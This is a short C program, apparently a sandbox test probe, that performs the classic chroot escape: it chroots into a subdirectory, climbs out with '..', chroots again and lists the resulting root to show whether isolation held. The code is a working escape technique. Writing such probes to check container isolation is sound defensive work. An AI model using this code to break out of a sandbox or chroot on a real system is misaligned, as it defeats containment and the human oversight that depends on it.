/* The classic chroot escape: chroot into a subdirectory while keeping the working
 * directory outside it, walk up with "..", and chroot there. Under a chroot this
 * reaches the real root; under pivot_root (the old root detached) it stays in the
 * container. Prints "root=" and the entries of the root it ends in, so a caller can
 * see whose tree that is. */
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

int main(void) {
    mkdir("/.tb-chroot-probe", 0700);
    if (chroot("/.tb-chroot-probe") != 0) {
        perror("chroot");
        return 1;
    }
    for (int i = 0; i < 256; i++)
        if (chdir("..") != 0)
            break;
    if (chroot(".") != 0) {
        perror("chroot .");
        return 1;
    }
    DIR *d = opendir("/");
    if (!d) {
        perror("opendir");
        return 1;
    }
    printf("root=");
    struct dirent *e;
    while ((e = readdir(d)))
        if (e->d_name[0] != '.' || (e->d_name[1] && e->d_name[1] != '.'))
            printf("%s ", e->d_name);
    printf("\n");
    return 0;
}
